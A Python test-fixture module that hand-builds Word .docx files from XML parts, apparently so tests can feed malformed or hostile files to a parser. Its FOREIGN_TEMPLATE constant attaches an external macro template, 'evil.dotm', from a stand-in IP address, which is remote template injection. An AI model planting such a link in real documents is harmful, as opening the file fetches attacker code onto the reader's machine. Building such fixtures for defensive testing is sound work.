"""Word files made by hand, part by part, so that a test can spoil any of them."""

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)

FOREIGN_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
)


def part(inside: str, root: str = "document") -> str:
    """A part with this XML inside its root."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:{root} {SPACES}>{inside}</w:{root}>'
    )


def body(*paragraphs: str) -> str:
    """The main part with a paragraph for each text or ready XML."""
    made = "".join(one if one.startswith("<") else line(one) for one in paragraphs)
    return part(f"<w:body>{made}</w:body>")


def line(text: str, style: str | None = None) -> str:
    """A paragraph of one run."""
    said = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{said}<w:r><w:t>{text}</w:t></w:r></w:p>"


def pack(parts: Mapping[str, str | bytes]) -> bytes:
    """The bytes of a Word file with these parts."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return memory.getvalue()


def write_docx(path: Path, *paragraphs: str, **others: str) -> Path:
    """A Word file; `footnotes="..."` becomes the part `word/footnotes.xml`."""
    parts = {"word/document.xml": body(*paragraphs)}
    parts |= {f"word/{name}.xml": content for name, content in others.items()}
    path.write_bytes(pack(parts))
    return path
